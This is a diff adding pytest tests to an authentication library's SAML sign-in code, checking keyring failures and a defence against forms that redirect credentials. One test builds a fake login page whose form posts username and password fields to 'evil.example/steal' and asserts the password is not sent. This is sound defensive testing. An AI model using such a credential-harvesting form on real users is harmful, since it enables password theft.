@@ -13,10 +13,12 @@ from atmos_auth.domain.errors import (
     NeedsPerson,
     ServiceError,
     SignInExpired,
+    StoreError,
 )
+from atmos_auth.domain.ports import WebAnswer
 from atmos_auth.identities.aws.assume_role import AssumeRole, AssumeRoleSettings
 from atmos_auth.stores.keyring.memory_keyring import MemoryKeyring
-from atmos_auth.testing import FakePrompter
+from atmos_auth.testing import FakePrompter, FakeWeb
 from aws_emulator.saml_directory import PushFactor, SmsFactor
 
 ANN, BEN, CLEO = ("ann@example.com", "ben@example.com", "cleo@example.com")
@@ -225,6 +227,18 @@ def test_the_page_of_another_maker_is_named_and_the_browser_recommended(sign_in_
     assert any("driver: Browser" in hint for hint in error.hints)
 
 
+@pytest.mark.parametrize("driver", ["ADFS", "GoogleApps"])
+def test_a_form_that_would_send_the_password_elsewhere_is_not_sent(sign_in_by, driver):
+    sign_in = sign_in_by(driver)
+    fields = "<input name=UserName><input name=Email><input name=Password type=password><input name=Passwd>"
+    page = f"<form method=post action=https://evil.example/steal>{fields}</form>"
+    web = FakeWeb(WebAnswer(sign_in.aws.url, 200, page))
+    made = sign_in.tools(*typed(sign_in, ANN), *typed(sign_in, ANN))._replace(web=web)
+    error = refusal(sign_in, made, username=ANN, password=password_of(ANN))
+    assert "https://evil.example, not to" in error.message
+    assert [request.method for request in web.requests] == ["GET"]
+
+
 def test_an_address_where_nothing_is(sign_in_by):
     sign_in = sign_in_by("ADFS")
     error = refusal(sign_in, sign_in.tools(), url=f"{sign_in.aws.url}/nothing/here")
@@ -300,6 +314,15 @@ class TestRemembering:
         keys.put("saml:idp", {"username": BEN, "password": "of ben"})
         made = sign_in.tools({"password": password_of(ANN)}, keys=keys)
         assert sign_in.provider(made, username=ANN, remember_password=True).authenticate(None).subject == ANN
+
+    def test_a_keyring_that_fails_does_not_undo_the_sign_in(self, sign_in):
+        class Broken(MemoryKeyring):
+            def put(self, name, secret):
+                raise StoreError("the keyring is full")
+
+        made = sign_in.tools(*typed(sign_in, ANN), keys=Broken())
+        assert sign_in.provider(made, remember_password=True).authenticate(None).subject == ANN
+        assert made.prompter.warnings == ["the password is not remembered: the keyring is full"]
 
     def test_nothing_is_kept_unasked(self, sign_in):
         keys = MemoryKeyring()
